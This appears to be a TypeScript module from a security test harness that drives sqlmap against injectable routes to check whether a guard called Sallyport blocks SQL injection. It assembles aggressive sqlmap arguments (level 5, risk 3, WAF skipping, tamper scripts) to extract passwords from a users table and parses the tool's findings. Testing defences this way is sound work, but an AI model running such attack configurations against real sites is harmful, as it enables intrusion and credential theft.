import { tamperScripts } from '../rewrite/sql/tamper.ts';
import type { Route } from './route.ts';
import { browser, runTool, type Tool, type ToolAttack, withFolder } from './tool.ts';

/** Each injection with all techniques, and each tamper script on one injection that suits it. */
export const sqlmap: Tool = {
  name: 'sqlmap',
  tools: ['sqlmap'],
  fits: ({ engine }) => engine.category === 'sqli',
  attacks: (injections) => {
    const tampered = tamperScripts().flatMap((script) => {
      const wanted = suited[script] ?? '/mariadb/string-single-quotes';
      const route = injections.find(({ path }) => path === wanted);
      return route === undefined ? [] : [sqlmapAttack(route, { script })];
    });
    return [...injections.map((route) => sqlmapAttack(route)), ...tampered];
  },
};

/** Where a script works: the others are for MySQL, or for any. */
const suited: Readonly<Record<string, string>> = {
  base64encode: '/sqlite/string-base-',
  substring2leftright: '/postgres/string-in-parentheses',
};

const dbms: Readonly<Record<string, string>> = {
  sqlite: 'SQLite',
  postgres: 'PostgreSQL',
  mariadb: 'MySQL',
};

/** Without a script it tries all that it knows: it gets more time. */
const plainEach = 3;

/**
 * As hard behind Sallyport as bare: refusals count as answers, and it does not look for a guard first.
 * What it finds it uses, to read a password: by the fastest way, then by those that it would pass over.
 */
export function sqlmapAttack(
  route: Route,
  { script, technique = 'BEUSTQ' }: { readonly script?: string; readonly technique?: string } = {},
): ToolAttack {
  const always = [
    ...'--batch --ignore-stdin --disable-coloring --retries 0 --threads 4 --fresh-queries'.split(
      ' ',
    ),
    ...'--skip-waf --ignore-code 401,403,500 --level 5 --risk 3 --time-sec 1'.split(' '),
    ...['--user-agent', browser, '--dbms', dbms[route.engine.name] ?? ''],
    ...(script === undefined ? encodingOf(route) : ['--tamper', script]),
  ];
  return {
    name: script === undefined ? 'sqlmap' : `sqlmap/${script}`,
    target: route.path,
    run: (site, given) =>
      withFolder(async (folder) => {
        const began = performance.now();
        const seconds = script === undefined ? plainEach * given : given;
        const run = (ways: string, rows: string) => {
          const query = `SELECT password FROM users WHERE ${rows}`;
          const own = ['--technique', ways, '--sql-query', query, '--output-dir', folder];
          const left = seconds - (performance.now() - began) / 1_000;
          const args = [...always, ...own, ...placeOf(route, site)];
          return runTool('sqlmap', args, { folder, seconds: Math.max(left, 0) });
        };
        const findings = findingsIn(await run(technique, 'id = 1'));
        // It goes on where it was: what was found is kept in its folder.
        for (const [kind, letter] of slower) {
          if (findings.length > 1 && findings.includes(kind)) await run(letter, 'id = 2');
        }
        return findings;
      }),
  };
}

const slower = [
  ['error-based', 'E'],
  ['boolean-based blind', 'B'],
] as const;

function encodingOf({ context, fields }: Route): string[] {
  return context.name === 'string, Base64' ? ['--base64', fields[0] ?? ''] : [];
}

/** Arguments that lead it to the first field of a route. */
function placeOf({ path, at, fields, context }: Route, site: string): string[] {
  const [field = ''] = fields;
  const [benign = ''] = context.benign;
  const all = Object.fromEntries(fields.map((name, i) => [name, context.benign[i] ?? '']));
  const form = new URLSearchParams(all).toString();
  const url = `${site}${path}`;
  switch (at) {
    case 'query':
      return ['-u', `${url}?${form}`, '-p', field];
    case 'form':
      return ['-u', url, '--data', form, '-p', field];
    case 'json':
      return [
        ...['-u', url, '-H', 'content-type: application/json', '-p', `JSON ${field}`],
        ...['--data', JSON.stringify(all)],
      ];
    case 'path':
      return ['-u', `${url}/${benign}*`];
    // Without a query it would attack the path.
    case 'cookie':
      return ['-u', `${url}?from=shop`, '--cookie', `${field}=${benign}`, '-p', field];
    case 'header':
      return ['-u', `${url}?from=shop`, '--referer', benign, '-p', 'referer'];
  }
}

/** What it is sure of, technique by technique. */
function findingsIn(printed: string): string[] {
  if (printed.includes('false positive or unexploitable')) return [];
  const types = printed.matchAll(/^ {4}Type: (.+)$/gm);
  // It may not have come to its summary.
  const lines = printed.matchAll(/ (?:is|appears to be) '([^']+)' injectable/g);
  const summary = [...types].map(([, type = '']) => type);
  const found = summary.length > 0 ? summary : [...lines].map(([, title = '']) => title);
  return [...new Set(found)];
}
